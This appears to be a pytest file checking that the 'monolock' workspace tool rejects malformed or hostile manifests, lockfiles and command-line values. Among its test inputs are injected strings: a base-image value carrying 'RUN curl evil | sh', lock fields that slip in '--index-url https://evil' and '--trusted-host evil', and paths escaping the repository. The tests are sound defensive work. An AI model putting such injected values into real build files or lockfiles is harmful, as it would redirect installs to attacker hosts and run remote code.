"""Bad input: a clear error (exit 2, naming the file and the key or option), and nothing
changed. Each case starts from one small, valid workspace (tests/fixtures/trust) and
breaks one thing in it, the way a user, a merge or an attacker would."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.conftest import Run

BASE = Path(__file__).parent / "fixtures" / "trust"
CORE = "packages/core/pyproject.toml"
API = "packages/api/pyproject.toml"


@dataclass(frozen=True)
class Link:
    target: str


@dataclass(frozen=True)
class Dir:
    pass


@dataclass(frozen=True)
class Fifo:
    """A named pipe where a file belongs: reading it would wait forever."""


Edit = str | bytes | None | Link | Dir | Fifo | Callable[[str], str]


def sub(old: str, new: str) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text, f"the fixture no longer holds {old!r}"
        return text.replace(old, new, 1)

    return edit


def subs(*pairs: tuple[str, str]) -> Callable[[str], str]:
    def edit(text: str) -> str:
        for old, new in pairs:
            text = sub(old, new)(text)
        return text

    return edit


def append(extra: str) -> Callable[[str], str]:
    return lambda text: text + extra


@dataclass(frozen=True)
class Case:
    id: str
    changes: dict[str, Edit]
    argv: tuple[str, ...]
    says: tuple[str, ...]  # what the error must name: the file, the key or option, the fix
    git: bool = False
    after: dict[str, Edit] = field(default_factory=dict)  # changed after the commit


def snapshot(root: Path) -> dict[str, object]:
    """Every entry below root: a file's bytes, a link's target, a directory's mark."""
    out: dict[str, object] = {}
    for base, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(base) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                out[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                out[rel] = "dir"
            elif not path.is_file():
                out[rel] = "special"
            else:
                out[rel] = path.read_bytes()
        dirs[:] = [d for d in dirs if not (Path(base) / d).is_symlink() and d != ".git"]
    return out


def apply(root: Path, changes: dict[str, Edit]) -> None:
    for rel, change in changes.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if change is None:
            path.unlink()
        elif isinstance(change, Link):
            if path.exists() or path.is_symlink():
                shutil.rmtree(path) if path.is_dir() else path.unlink()
            path.symlink_to(change.target)
        elif isinstance(change, Dir):
            if path.exists():
                path.unlink()
            path.mkdir()
        elif isinstance(change, Fifo):
            if path.exists():
                path.unlink()
            os.mkfifo(path)
        elif isinstance(change, bytes):
            path.write_bytes(change)
        elif isinstance(change, str):
            path.write_text(change)
        else:
            path.write_text(change(path.read_text()))


def make(
    tmp: Path, changes: dict[str, Edit], git: bool = False, after: dict[str, Edit] | None = None
) -> Path:
    """The base workspace with `changes`; with `git`, committed, then `after` applied."""
    root = tmp / "repo"
    shutil.copytree(BASE, root)
    apply(root, changes)
    if git:
        for args in (
            ["init", "-q"],
            ["add", "-A"],
            ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base"],
        ):
            subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
    apply(root, after or {})
    return root


def poetry(body: str, name: str = '"p"') -> str:
    """packages/p/pyproject.toml of a Poetry package."""
    return f'[tool.poetry]\nname = {name}\nversion = "1"\n{body}'


def app_table(extra: str) -> Callable[[str], str]:
    return sub('command = "python -m api"', f'command = "python -m api"\n{extra}')


CASES = [
    # --- the root manifest -----------------------------------------------------------------
    Case(
        "root-invalid-toml",
        {"pyproject.toml": "[tool.uv.workspace\n"},
        ("list",),
        ("pyproject.toml:1", "invalid TOML"),
    ),
    Case(
        "root-not-utf8",
        {"pyproject.toml": b"\xff\xfe[tool]\n"},
        ("list",),
        ("pyproject.toml", "not UTF-8"),
    ),
    Case(
        "root-is-a-directory",
        {"pyproject.toml": Dir()},
        ("list",),
        ("pyproject.toml", "is not a readable file"),
    ),
    Case(
        "members-is-a-string",
        {"pyproject.toml": sub('["packages/*"]', '"packages/*"')},
        ("list",),
        (
            "pyproject.toml",
            "tool.uv.workspace.members",
            "expected an array of strings",
            "found a string",
        ),
    ),
    Case(
        "members-holds-a-number",
        {"pyproject.toml": sub('["packages/*"]', "[1]")},
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.members[0]", "found an integer"),
    ),
    Case(
        "member-path-holds-a-nul",
        {"pyproject.toml": sub('["packages/*"]', '["packages/\\u0000"]')},
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.members", "not a path a file system can hold"),
    ),
    Case(
        "exclude-is-a-string",
        {
            "pyproject.toml": sub(
                'members = ["packages/*"]', 'members = ["packages/*"]\nexclude = "x"'
            )
        },
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.exclude", "expected an array"),
    ),
    Case(
        "workspace-is-a-string",
        {
            "pyproject.toml": sub(
                '[tool.uv.workspace]\nmembers = ["packages/*"]', '[tool.uv]\nworkspace = "packages"'
            )
        },
        ("list",),
        ("pyproject.toml", "tool.uv.workspace", "expected a table"),
    ),
    Case(
        "member-does-not-exist",
        {"pyproject.toml": sub('["packages/*"]', '["packages/core", "packages/nope"]')},
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.members", "packages/nope", "does not exist"),
    ),
    Case(
        "glob-matches-nothing",
        {"pyproject.toml": sub('["packages/*"]', '["libs/*"]')},
        ("list",),
        ("'libs/*' matches no directory", "tool.uv.workspace.members", "no member found"),
    ),
    Case(
        "member-path-is-absolute",
        {"pyproject.toml": sub('["packages/*"]', '["/etc"]')},
        ("list",),
        (
            "pyproject.toml",
            "tool.uv.workspace.members",
            "'/etc'",
            "relative path inside the repository",
        ),
    ),
    Case(
        "member-path-leaves-the-root",
        {"pyproject.toml": sub('["packages/*"]', '["../x"]')},
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.members", "'../x'"),
    ),
    Case(
        "two-members-one-name",
        {"packages/core2/pyproject.toml": '[project]\nname = "Core"\nversion = "1"\n'},
        ("list",),
        ("two members are named 'core'", CORE, "packages/core2/pyproject.toml"),
    ),
    Case(
        "monolock-is-a-string",
        {
            "pyproject.toml": '[tool]\nmonolock = "x"\n'
            '[tool.uv.workspace]\nmembers = ["packages/*"]\n'
        },
        ("list",),
        ("pyproject.toml", "tool.monolock: expected a table", "found a string"),
    ),
    Case(
        "apps-is-a-number",
        {"pyproject.toml": sub("[tool.monolock.apps.api]\n", "[tool.monolock]\napps = 5\n[x]\n")},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps", "found an integer"),
    ),
    Case(
        "app-package-is-not-a-member",
        {"pyproject.toml": sub('package = "api"', 'package = "nope"')},
        ("list",),
        (
            "pyproject.toml",
            "tool.monolock.apps.api",
            "'nope' is not a member",
            "members are: api, core",
        ),
    ),
    Case(
        "app-python-with-a-newline",
        {"pyproject.toml": app_table('python = "3.11\\n"')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.python", "'3.11\\n'"),
    ),
    Case(
        "app-python-unicode-digits",
        {"pyproject.toml": app_table('python = "3.\u0661\u0661"')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.python"),
    ),
    Case(
        "app-base-image-with-a-newline",
        {"pyproject.toml": app_table('base-image = "python:3.11\\nRUN curl evil | sh"')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.base-image", "not an image reference"),
    ),
    Case(
        "app-name-with-a-newline",
        {"pyproject.toml": sub("[tool.monolock.apps.api]", '[tool.monolock.apps."api\\nRUN x"]')},
        ("list",),
        ("pyproject.toml", 'tool.monolock.apps."api\\nRUN x"', "not a valid app name"),
    ),
    Case(
        "app-command-cannot-be-split",
        {"pyproject.toml": sub('"python -m api"', '"python \'x"')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.command", "cannot be split"),
    ),
    Case(
        "app-unknown-key",
        {"pyproject.toml": app_table('comand = "x"')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api", "unknown key 'comand'"),
    ),
    Case(
        "app-file-leaves-the-repository",
        {"pyproject.toml": app_table('files = ["../secret"]')},
        ("list",),
        ("pyproject.toml", "tool.monolock.apps.api.files", "'../secret'"),
    ),
    Case(
        "tasks-is-a-number",
        {
            "pyproject.toml": sub(
                "[tool.monolock.tasks]\ntest = ", "[tool.monolock]\ntasks = 5\n[x]\ntest = "
            )
        },
        ("list",),
        ("pyproject.toml", "tool.monolock.tasks", "found an integer"),
    ),
    Case(
        "task-timeout-is-text",
        {
            "pyproject.toml": append(
                '\n[tool.monolock.tasks.lint]\ncommand = "ruff"\ntimeout = "9"\n'
            )
        },
        ("list",),
        ("pyproject.toml", "tool.monolock.tasks.lint.timeout", "number of seconds"),
    ),
    Case(
        "check-ignore-is-a-string",
        {"pyproject.toml": append('\n[tool.monolock.check]\nignore = "ML101"\n')},
        ("list",),
        ("pyproject.toml", "tool.monolock.check.ignore", "expected an array of strings"),
    ),
    Case(
        "check-ignore-is-not-a-code",
        {"pyproject.toml": append('\n[tool.monolock.check]\nignore = ["XX1"]\n')},
        ("list",),
        ("pyproject.toml", "tool.monolock.check.ignore", "'XX1' is not a rule code"),
    ),
    Case(
        "import-names-is-a-number",
        {"pyproject.toml": append("\n[tool.monolock.import-names]\nalpha = 5\n")},
        ("list",),
        ("pyproject.toml", "tool.monolock.import-names.alpha", "found an integer"),
    ),
    # --- a member's manifest ----------------------------------------------------------------
    Case(
        "dependencies-is-a-string",
        {CORE: sub('["alpha>=1"]', '"alpha>=1"')},
        ("list",),
        (
            CORE,
            "project.dependencies",
            "expected an array of PEP 508 requirement strings",
            "found a string",
        ),
    ),
    Case(
        "dependency-is-a-number",
        {CORE: sub('["alpha>=1"]', "[1]")},
        ("list",),
        (CORE, "project.dependencies[0]", "found an integer"),
    ),
    Case(
        "dependency-is-not-pep508",
        {CORE: sub('"alpha>=1"', '"alpha >>= 1"')},
        ("list",),
        (CORE, "project.dependencies[0]", "not a valid PEP 508 requirement"),
    ),
    Case(
        "extras-is-an-array",
        {
            API: subs(
                ('[project.optional-dependencies]\nfast = ["gamma>=1"]', ""),
                ('"beta>=1"]', '"beta>=1"]\noptional-dependencies = ["x"]'),
            )
        },
        ("list",),
        (API, "project.optional-dependencies", "found an array"),
    ),
    Case(
        "extra-is-a-string",
        {API: sub('fast = ["gamma>=1"]', 'fast = "gamma>=1"')},
        ("list",),
        (API, "project.optional-dependencies.fast", "found a string"),
    ),
    Case(
        "extra-name-with-a-space",
        {API: sub("fast = [", '"fa st" = [')},
        ("list",),
        (API, "'fa st' is not a valid extra name"),
    ),
    Case(
        "groups-is-an-array",
        {
            API: lambda t: (
                'dependency-groups = ["x"]\n'
                + sub('[dependency-groups]\ndev = ["gamma>=1"]', "")(t)
            )
        },
        ("list",),
        (API, "dependency-groups", "expected a table of groups", "found an array"),
    ),
    Case(
        "group-is-a-string",
        {API: sub('dev = ["gamma>=1"]', 'dev = "gamma"')},
        ("list",),
        (API, "dependency-groups.dev", "found a string"),
    ),
    Case(
        "include-group-is-a-number",
        {API: sub('dev = ["gamma>=1"]', "dev = [{include-group = 5}]")},
        ("list",),
        (API, "dependency-groups.dev[0].include-group", "found an integer"),
    ),
    Case(
        "include-group-names-nothing",
        {API: sub('dev = ["gamma>=1"]', 'dev = [{include-group = "lint"}]')},
        ("list",),
        (API, "dependency-groups.dev", "includes unknown group 'lint'"),
    ),
    Case(
        "include-group-cycle",
        {
            API: sub(
                'dev = ["gamma>=1"]', 'dev = [{include-group = "b"}]\nb = [{include-group = "dev"}]'
            )
        },
        ("list",),
        (API, "include-group cycle"),
    ),
    Case(
        "requires-python-is-a-number",
        {CORE: sub('requires-python = ">=3.11"', "requires-python = 5")},
        ("list",),
        (CORE, "project.requires-python", "found an integer"),
    ),
    Case(
        "requires-python-is-not-pep440",
        {CORE: sub('requires-python = ">=3.11"', 'requires-python = ">=3.11,<<4"')},
        ("list",),
        (CORE, "project.requires-python", "not a PEP 440 specifier"),
    ),
    Case(
        "name-is-a-number",
        {CORE: sub('name = "core"', "name = 5")},
        ("list",),
        (CORE, "project.name", "found an integer"),
    ),
    Case(
        "name-is-not-ascii",
        {CORE: sub('name = "core"', 'name = "cöre"')},
        ("list",),
        (CORE, "project.name", "'cöre' is not a valid distribution name"),
    ),
    Case(
        "name-with-a-quote",
        {CORE: sub('name = "core"', "name = 'co\"re'")},
        ("list",),
        (CORE, "project.name", "is not a valid distribution name"),
    ),
    Case(
        "name-with-a-newline",
        {CORE: sub('name = "core"', 'name = "core\\nx"')},
        ("list",),
        (CORE, "project.name", "'core\\nx'"),
    ),
    Case(
        "version-is-a-float",
        {CORE: sub('version = "0.1.0"', "version = 0.1")},
        ("list",),
        (CORE, "project.version", "found a float"),
    ),
    Case(
        "dynamic-is-a-string",
        {CORE: sub('version = "0.1.0"', 'version = "0.1.0"\ndynamic = "x"')},
        ("list",),
        (CORE, "project.dynamic", "expected an array of strings"),
    ),
    Case(
        "source-is-a-string",
        {API: sub("core = { workspace = true }", 'core = "workspace"')},
        ("list",),
        (API, "tool.uv.sources.core", "found a string"),
    ),
    Case(
        "source-flag-is-text",
        {API: sub("workspace = true", 'workspace = "yes"')},
        ("list",),
        (API, "tool.uv.sources.core.workspace", "expected true or false"),
    ),
    Case(
        "index-is-a-table",
        {API: append('\n[tool.uv.index]\nurl = "https://x"\n')},
        ("list",),
        (API, "tool.uv.index", "expected an array of tables", "found a table"),
    ),
    Case(
        "workspace-source-names-no-member",
        {
            API: sub(
                'dependencies = ["core", "beta>=1"]', 'dependencies = ["core", "beta>=1", "nope"]'
            ),
            "pyproject.toml": append("\n[tool.uv.sources]\nnope = { workspace = true }\n"),
        },
        ("list",),
        (API, "dependency 'nope' has a workspace source, but no member", "members are: api, core"),
    ),
    Case(
        "path-source-leaves-the-repository",
        {API: sub("core = { workspace = true }", 'core = { path = "../../.." }')},
        ("list",),
        (API, "dependency 'core' has path '../../..'", "outside the repository"),
    ),
    Case(
        "member-invalid-toml",
        {CORE: append("[project\n")},
        ("list",),
        (f"{CORE}:10", "invalid TOML"),
    ),
    Case(
        "member-manifest-is-a-directory", {CORE: Dir()}, ("list",), (CORE, "is not a readable file")
    ),
    Case(
        "member-is-a-symlink-loop",
        {
            "pyproject.toml": sub('["packages/*"]', '["packages/core", "packages/loop"]'),
            "packages/loop": Link("loop"),
        },
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.members", "symlink loop"),
    ),
    Case(
        "path-source-is-a-symlink-loop",
        {
            API: sub("core = { workspace = true }", 'core = { path = "../../vendor/loop" }'),
            "vendor/loop": Link("loop"),
        },
        ("list",),
        (API, "dependency 'core'", "symlink loop"),
    ),
    Case(
        "glob-reaches-a-symlink-loop",
        {"packages/loop": Link("loop")},
        ("list",),
        ("pyproject.toml", "tool.uv.workspace.members", "'loop' is a broken symlink or a"),
    ),
    # --- uv.lock ------------------------------------------------------------------------------
    Case(
        "lock-is-a-directory",
        {"uv.lock": Dir()},
        ("export", "api"),
        ("uv.lock", "is not a readable file", "monolock lock"),
    ),
    Case(
        "lock-invalid-toml",
        {"uv.lock": append("[[package]\n")},
        ("export", "api"),
        ("uv.lock:", "invalid TOML", "monolock lock"),
    ),
    Case(
        "lock-not-utf8",
        {"uv.lock": b"version = 1\n\xff\n"},
        ("export", "api"),
        ("uv.lock", "not UTF-8 text", "monolock lock"),
    ),
    Case(
        "lock-manifest-is-a-number",
        {"uv.lock": sub("[manifest]\nmembers", "manifest = 1\n[x]\nm")},
        ("export", "api"),
        ("uv.lock", "manifest: expected a table", "monolock lock"),
    ),
    Case(
        "lock-requires-python-is-a-number",
        {"uv.lock": sub('requires-python = ">=3.11"', "requires-python = 5")},
        ("export", "api"),
        ("uv.lock", "requires-python: expected a PEP 440 version range, found an integer"),
    ),
    Case(
        "lock-version-is-text",
        {"uv.lock": sub("version = 1\n", 'version = "1"\n')},
        ("export", "api"),
        ("uv.lock", "version: expected an integer"),
    ),
    Case(
        "lock-version-2",
        {"uv.lock": sub("version = 1\n", "version = 2\n")},
        ("export", "api"),
        ("uv.lock", "lockfile version 2", "not one this monolock reads"),
    ),
    Case(
        "lock-revision-99",
        {"uv.lock": sub("revision = 3", "revision = 99")},
        ("why", "alpha"),
        ("uv.lock", "revision 99", "upgrade monolock"),
    ),
    Case(
        "lock-without-version",
        {"uv.lock": sub("version = 1\nrevision = 3\n", "")},
        ("export", "api"),
        ("uv.lock", "version: missing"),
    ),
    Case(
        "lock-packages-is-a-string",
        {
            "uv.lock": lambda t: t.split("[[package]]")[0].replace(
                "[manifest]", 'package = "x"\n[manifest]'
            )
        },
        ("export", "api"),
        ("uv.lock", "package: expected an array of package tables"),
    ),
    Case(
        "lock-name-is-a-number",
        {"uv.lock": sub('name = "alpha"', "name = 3")},
        ("export", "api"),
        ("uv.lock", "package[0].name", "found an integer"),
    ),
    Case(
        "lock-package-without-name",
        {"uv.lock": sub('name = "alpha"\n', "")},
        ("export", "api"),
        ("uv.lock", "package[0].name: missing"),
    ),
    Case(
        "lock-package-without-source",
        {"uv.lock": sub('source = { registry = "https://pypi.org/simple" }\nwheels', "wheels")},
        ("export", "api"),
        ("uv.lock", "package[0].source: missing"),
    ),
    Case(
        "lock-source-is-a-string",
        {
            "uv.lock": sub(
                'source = { registry = "https://pypi.org/simple" }\nwheels',
                'source = "pypi"\nwheels',
            )
        },
        ("export", "api"),
        ("uv.lock", "package[0].source", "found a string"),
    ),
    Case(
        "lock-source-of-unknown-kind",
        {
            "uv.lock": sub(
                'source = { registry = "https://pypi.org/simple" }\nwheels',
                'source = { ftp = "x" }\nwheels',
            )
        },
        ("export", "api"),
        ("uv.lock", "package[0] (alpha).source", "unrecognised source"),
    ),
    Case(
        "lock-dependencies-is-a-string",
        {"uv.lock": sub('dependencies = [\n    { name = "alpha" },\n]', 'dependencies = "alpha"')},
        ("export", "api"),
        ("uv.lock", ".dependencies", "found a string"),
    ),
    Case(
        "lock-dependency-is-a-string",
        {
            "uv.lock": sub(
                'dependencies = [\n    { name = "alpha" },\n]', 'dependencies = ["alpha"]'
            )
        },
        ("export", "api"),
        ("uv.lock", ".dependencies[0]", "found a string"),
    ),
    Case(
        "lock-wheels-is-a-number",
        {
            "uv.lock": lambda t: t.replace(
                'wheels = [\n    { url = "https://files.example.org/alpha',
                'wheels = 1\nx = [\n    { url = "https://files.example.org/alpha',
            )
        },
        ("export", "api"),
        ("uv.lock", "package[0].wheels", "found an integer"),
    ),
    Case(
        "lock-with-conflict-markers",
        {"uv.lock": lambda t: "<<<<<<< HEAD\n" + t + "=======\n" + t + ">>>>>>> branch\n"},
        ("export", "api"),
        ("uv.lock", "conflict markers", "monolock lock"),
    ),
    Case(
        "lock-edge-into-nothing",
        {
            "uv.lock": sub(
                'dependencies = [\n    { name = "alpha" },\n]',
                'dependencies = [\n    { name = "alpha" },\n    { name = "zeta" },\n]',
            )
        },
        ("export", "api"),
        ("uv.lock", "package 'core'", "names zeta", "damaged", "monolock lock"),
    ),
    Case(
        "lock-edge-into-a-missing-version",
        {"uv.lock": sub('{ name = "alpha", marker', '{ name = "alpha", version = "9.9", marker')},
        ("why", "alpha"),
        ("uv.lock", "package 'beta'", "names alpha 9.9"),
    ),
    Case(
        "lock-invalid-marker",
        {"uv.lock": sub("marker = \"sys_platform == 'linux'\"", 'marker = "sys_platform >>> 1"')},
        ("export", "api"),
        ("uv.lock", "dependencies[0].marker: expected a PEP 508 marker", "sys_platform >>> 1"),
    ),
    Case(
        "lock-lacks-the-member",
        {
            "uv.lock": sub(
                'source = { editable = "packages/api" }',
                'source = { registry = "https://pypi.org/simple" }',
            )
        },
        ("export", "api"),
        ("uv.lock", "'api' is not a member of the lock", "monolock lock"),
    ),
    # --- command-line values ----------------------------------------------------------------
    Case("export-unknown-app", {}, ("export", "nope"), ("unknown app 'nope'", "known: api, core")),
    Case(
        "export-unknown-extra",
        {},
        ("export", "api", "--extra", "nope"),
        ("--extra nope", API, "known: fast"),
    ),
    Case(
        "export-unknown-group",
        {},
        ("export", "api", "--group", "nope"),
        ("--group nope", API, "known: dev"),
    ),
    Case("graph-unknown-app", {}, ("graph", "--app", "nope"), ("unknown app 'nope'",)),
    Case("export-near-miss", {}, ("export", "apj"), ("did you mean 'api'?",)),
    Case(
        "why-near-miss",
        {},
        ("why", "alpah"),
        ("'alpah' is not in uv.lock", "did you mean 'alpha'?"),
    ),
    Case("why-unknown-distribution", {}, ("why", "nope"), ("'nope' is not in uv.lock",)),
    Case(
        "shard-with-arabic-digits",
        {},
        ("run", "test", "--shard", "\u0661/\u0662"),
        ("--shard '\u0661/\u0662'", "i/n"),
    ),
    Case("shard-with-superscripts", {}, ("run", "test", "--shard", "²/³"), ("--shard",)),
    Case("shard-zero", {}, ("run", "test", "--shard", "0/2"), ("--shard '0/2'",)),
    Case("shard-beyond-count", {}, ("run", "test", "--shard", "3/2"), ("--shard '3/2'",)),
    Case(
        "check-unknown-member",
        {},
        ("check", "-p", "nope", "--no-lock-check"),
        ("--package nope: no member is called that", "known: api, core"),
    ),
    Case("run-unknown-member", {}, ("run", "test", "-p", "nope"), ("--package nope",)),
    Case("run-unknown-task", {}, ("run", "nope"), ("no task 'nope'", "tasks: test")),
    Case(
        "export-into-a-path-under-a-file",
        {},
        ("export", "api", "-o", "uv.lock/req.txt"),
        ("-o", "uv.lock is a file, not a directory"),
    ),
    Case(
        "export-over-a-file-it-did-not-write",
        {},
        ("export", "api", "-o", CORE),
        ("-o", CORE, "not written by monolock"),
    ),
    Case("export-into-git", {}, ("export", "api", "-o", ".git/req.txt"), ("-o", ".git")),
    Case(
        "build-out-at-the-root",
        {},
        ("build", "api", "--out", "."),
        ("--out", "is or contains the repository root"),
    ),
    Case(
        "build-out-at-a-member",
        {},
        ("build", "api", "--out", "packages/core"),
        ("--out", "is or contains the member core"),
    ),
    Case(
        "build-out-above-the-members",
        {},
        ("build", "api", "--out", "packages"),
        ("--out", "is or contains the member"),
    ),
    Case(
        "build-venv-at-the-root-with-pyvenv-cfg",
        {"pyvenv.cfg": "home = /usr\n"},
        ("build", "api", "--venv", "."),
        ("--venv", "is or contains the repository root"),
    ),
    Case(
        "build-venv-at-a-member-with-pyvenv-cfg",
        {"packages/core/pyvenv.cfg": "home = /usr\n"},
        ("build", "api", "--venv", "packages/core"),
        ("--venv", "is or contains the member core"),
    ),
    Case(
        "build-venv-inside-git",
        {},
        ("build", "api", "--venv", ".git/env"),
        ("--venv", "lies inside a .git directory"),
        git=True,
    ),
    Case(
        "build-out-holding-tracked-files",
        {"docs/guide.md": "# guide\n"},
        ("build", "api", "--out", "docs"),
        ("--out", "holds files git tracks (docs/guide.md)"),
        git=True,
    ),
    Case(
        "build-out-with-a-users-files",
        {"ctx/notes.txt": "mine\n"},
        ("build", "api", "--out", "ctx"),
        ("--out", "not made by monolock as a build context"),
    ),
    Case(
        "build-out-under-a-file",
        {},
        ("build", "api", "--out", "uv.lock/ctx"),
        ("--out", "is a file, not a directory"),
    ),
    Case(
        "build-python-with-a-newline",
        {},
        ("build", "api", "--out", "ctx", "--python", "3.11\n"),
        ("--python", "expected a version like 3.12"),
    ),
    # --- Poetry packages ------------------------------------------------------------------------
    Case(
        "poetry-name-is-a-number",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry(
                '[tool.poetry.dependencies]\npython = "^3.11"\n', name="5"
            ),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.name", "found an integer"),
    ),
    Case(
        "poetry-python-is-a-float",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry("[tool.poetry.dependencies]\npython = 3.11\n"),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.dependencies.python", "found a float"),
    ),
    Case(
        "poetry-dependency-is-a-number",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry("[tool.poetry.dependencies]\nalpha = 5\n"),
        },
        ("list",),
        (
            "packages/p/pyproject.toml",
            "tool.poetry.dependencies.alpha",
            "a constraint string, a table or an array of tables",
        ),
    ),
    Case(
        "poetry-extras-is-a-string",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry(
                '[tool.poetry.dependencies]\nalpha = { version = "^1", extras = "fast" }\n'
            ),
        },
        ("list",),
        (
            "packages/p/pyproject.toml",
            "tool.poetry.dependencies.alpha.extras",
            "expected an array of strings",
        ),
    ),
    Case(
        "poetry-develop-is-text",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry(
                '[tool.poetry.dependencies]\nq = { path = "../q", develop = "yes" }\n'
            ),
        },
        ("list",),
        (
            "packages/p/pyproject.toml",
            "tool.poetry.dependencies.q.develop",
            "expected true or false",
        ),
    ),
    Case(
        "poetry-group-dependencies-is-an-array",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry("[tool.poetry.group.dev]\ndependencies = []\n"),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.group.dev.dependencies", "found an array"),
    ),
    Case(
        "poetry-source-is-a-table",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry('[tool.poetry.source]\nname = "x"\n'),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.source", "found a table"),
    ),
    Case(
        "poetry-constraint-is-not-a-constraint",
        {
            "pyproject.toml": "",
            "packages/p/pyproject.toml": poetry('[tool.poetry.dependencies]\nalpha = "^^1"\n'),
        },
        ("list",),
        ("packages/p/pyproject.toml", "tool.poetry.dependencies.alpha"),
    ),
    # --- values a lock copies into requirements files -------------------------------------
    Case(
        "lock-version-with-a-newline",
        {"uv.lock": sub('version = "1.0.0"', 'version = "1.0.0\\n--extra-index-url https://evil"')},
        ("export", "api"),
        ("uv.lock", "package[0].version: expected a PEP 440 version"),
    ),
    Case(
        "lock-hash-with-a-newline",
        {"uv.lock": sub('hash = "sha256:1111', 'hash = "sha256:\\n--index-url https://evil 1111')},
        ("export", "api"),
        ("uv.lock", "package[0].wheels[0].hash: expected a hash like sha256:<hex>"),
    ),
    Case(
        "lock-name-with-a-newline",
        {
            "uv.lock": sub(
                '[[package]]\nname = "gamma"', '[[package]]\nname = "gamma\\n--index-url x"'
            )
        },
        ("export", "api"),
        ("uv.lock", "package[4].name: expected a PEP 508 name"),
    ),
    Case(
        "lock-url-with-a-space",
        {"uv.lock": sub("alpha-1.0.0-py3-none-any.whl", "a.whl --index-url https://evil")},
        ("export", "api"),
        ("uv.lock", "package[0].wheels[0].url: expected a URL without spaces"),
    ),
    Case(
        "lock-registry-with-a-newline",
        {
            "uv.lock": sub(
                '{ registry = "https://pypi.org/simple" }',
                '{ registry = "https://pypi.org/simple\\n--trusted-host evil" }',
            )
        },
        ("export", "api"),
        ("uv.lock", "package[0].source.registry: expected a URL"),
    ),
    Case(
        "lock-requires-python-is-not-a-range",
        {"uv.lock": sub('requires-python = ">=3.11"', 'requires-python = ">=3.11,<"')},
        ("export", "api", "--format", "pylock"),
        ("uv.lock", "requires-python: expected a PEP 440 version range"),
    ),
    Case(
        "lock-lists-a-package-twice",
        {"uv.lock": lambda t: t + t[t.index('[[package]]\nname = "gamma"') :]},
        ("export", "api"),
        ("uv.lock", "package 'gamma' 1.5.0 is listed twice"),
    ),
    # --- members uv would refuse, never left out quietly --------------------------------------
    Case(
        "member-without-a-project-table",
        {"packages/docs/pyproject.toml": "[tool.ruff]\nline-length = 90\n"},
        ("list",),
        ("packages/docs/pyproject.toml", "has no [project] table"),
    ),
    Case(
        "member-name-is-empty",
        {CORE: sub('name = "core"', 'name = ""')},
        ("list",),
        (CORE, "project.name: '' is not a valid distribution name"),
    ),
    Case(
        "member-manifest-is-a-symlink-loop",
        {CORE: Link("pyproject.toml")},
        ("list",),
        (CORE, "cannot read"),
    ),
    Case(
        "root-manifest-is-a-symlink-loop",
        {"pyproject.toml": Link("pyproject.toml")},
        ("list",),
        ("pyproject.toml", "cannot read"),
    ),
    Case("lock-is-a-pipe", {"uv.lock": Fifo()}, ("export", "api"), ("uv.lock", "a pipe")),
    Case("manifest-is-a-pipe", {CORE: Fifo()}, ("list",), (CORE, "is not a readable file")),
    Case(
        "lock-is-a-directory-for-check",
        {"uv.lock": Dir()},
        ("check", "--no-lock-check"),
        ("uv.lock", "is not a readable file"),
    ),
    Case(
        "lock-is-a-directory-for-affected",
        {},
        ("affected",),
        ("uv.lock", "is not a readable file"),
        git=True,
        after={"uv.lock": Dir()},
    ),
    # --- typos pass no longer ------------------------------------------------------------------
    Case(
        "monolock-unknown-key",
        {"pyproject.toml": append("\n[tool.monolock]\naps = []\n")},
        ("list",),
        ("pyproject.toml", "tool.monolock.aps: unknown key", "takes: apps, tasks"),
    ),
    Case(
        "member-monolock-unknown-table",
        {CORE: append('\n[tool.monolock.taks]\ntest = "x"\n')},
        ("list",),
        (CORE, "tool.monolock.taks: unknown key"),
    ),
    Case(
        "source-unknown-key",
        {API: sub("core = { workspace = true }", "core = { workspace = true, bogus = 1 }")},
        ("list",),
        (API, "tool.uv.sources.core.bogus: unknown key"),
    ),
    Case(
        "groups-equal-once-normalised",
        {API: sub('dev = ["gamma>=1"]', 'dev = ["gamma>=1"]\nDev = ["gamma"]')},
        ("list",),
        (API, "dependency-groups.Dev", "same normalised name 'dev'"),
    ),
    Case(
        "extras-equal-once-normalised",
        {API: sub('fast = ["gamma>=1"]', 'fast = ["gamma>=1"]\nFAST = []')},
        ("list",),
        (API, "project.optional-dependencies.FAST", "same normalised name 'fast'"),
    ),
    Case(
        "version-is-not-pep440",
        {CORE: sub('version = "0.1.0"', 'version = "not a version"')},
        ("list",),
        (CORE, "project.version: expected a PEP 440 version"),
    ),
    Case("shard-empty", {}, ("run", "test", "--shard", ""), ("--shard ''",)),
    Case(
        "required-version-excludes-the-bundled-uv",
        {"pyproject.toml": append('\n[tool.uv]\nrequired-version = ">=99"\n')},
        ("lock", "--check"),
        ("pyproject.toml", "tool.uv.required-version is '>=99'", "MONOLOCK_UV"),
